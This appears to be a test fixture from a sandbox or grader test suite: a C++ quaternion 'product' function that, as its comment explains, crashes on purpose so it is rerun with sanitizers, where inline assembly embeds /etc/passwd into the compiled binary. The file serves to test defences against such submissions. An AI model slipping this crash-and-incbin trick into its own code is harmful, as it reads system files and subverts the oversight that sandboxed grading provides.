// Attack: crashes, so that it is run again with sanitizers, behind lower walls; there it has
//         assembler code, which nobody looks for any more, and it reads /etc/passwd.
// Verdict: crashed
@sanitized@

namespace quaternions {
Quaternion product(const Quaternion& a, const Quaternion&) {
#ifdef __SANITIZE_ADDRESS__
  asm(".section .rodata\n.incbin \"/etc/passwd\"\n.previous");
#endif
  volatile int* nowhere = nullptr;
  *nowhere = 1;
  return a;
}
}  // namespace quaternions
